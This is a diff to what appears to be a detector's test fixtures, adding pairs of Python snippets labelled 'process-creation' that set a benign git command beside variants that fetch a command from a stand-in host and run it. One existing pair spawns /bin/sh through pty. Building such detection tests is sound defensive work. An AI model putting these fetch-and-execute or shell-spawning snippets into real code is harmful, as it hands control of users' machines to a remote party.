@@ -219,6 +219,36 @@ const PARSER = `import argparse\nimport subprocess\n\np = argparse.ArgumentParse
 
 export const PYTHON_PAIRS: readonly Pair[] = [
   [
+    "a first word, and one that was put into an empty list",
+    `import shutil\nimport subprocess\n\nwords = [shutil.which("git"), "log"]\nwords.append("-1")\nsubprocess.run(words + ["--all"])\n`,
+    `import shutil\nimport subprocess\nimport urllib.request\n\nwords = []\nwords.append(urllib.request.urlopen("https://x.example.net/a").read().decode())\nsubprocess.run(words)\n`,
+    "process-creation",
+  ],
+  [
+    "a first word, and the second after it was taken away",
+    `import shutil\nimport subprocess\n\nwords = [shutil.which("git"), "log"]\nwords.append("-1")\nsubprocess.run(words + ["--all"])\n`,
+    `import shutil\nimport subprocess\nimport urllib.request\n\nwords = [shutil.which("git"), urllib.request.urlopen("https://x.example.net/a").read().decode()]\nwords.pop(0)\nsubprocess.run(words)\n`,
+    "process-creation",
+  ],
+  [
+    "a first word, and the rest behind it",
+    `import shutil\nimport subprocess\n\nwords = [shutil.which("git"), "log"]\nwords.append("-1")\nsubprocess.run(words + ["--all"])\n`,
+    `import shutil\nimport subprocess\nimport urllib.request\n\nwords = [shutil.which("git"), urllib.request.urlopen("https://x.example.net/a").read().decode()]\nsubprocess.run(words[1:])\n`,
+    "process-creation",
+  ],
+  [
+    "a first word, and what stands behind no words",
+    `import shutil\nimport subprocess\n\nwords = [shutil.which("git"), "log"]\nwords.append("-1")\nsubprocess.run(words + ["--all"])\n`,
+    `import shutil\nimport subprocess\nimport urllib.request\n\ndef go(rest):\n    subprocess.run([*rest, urllib.request.urlopen("https://x.example.net/a").read().decode()])\n\n\ngo([])\n`,
+    "process-creation",
+  ],
+  [
+    "a first word, and the last one",
+    `import shutil\nimport subprocess\n\nwords = [shutil.which("git"), "log"]\nwords.append("-1")\nsubprocess.run(words + ["--all"])\n`,
+    `import shutil\nimport subprocess\nimport urllib.request\n\nwords = [shutil.which("git"), urllib.request.urlopen("https://x.example.net/a").read().decode()]\nsubprocess.run([words.pop()])\n`,
+    "process-creation",
+  ],
+  [
     "a list with a second name, and one that is changed by it",
     `names = ["json", "csv"]\nboth = names\nprint(__import__(both[0]).__name__)\n`,
     `names = ["json", "csv"]\nboth = names\nboth[0] = "pty"\n__import__(names[0]).spawn("/bin/sh")\n`,
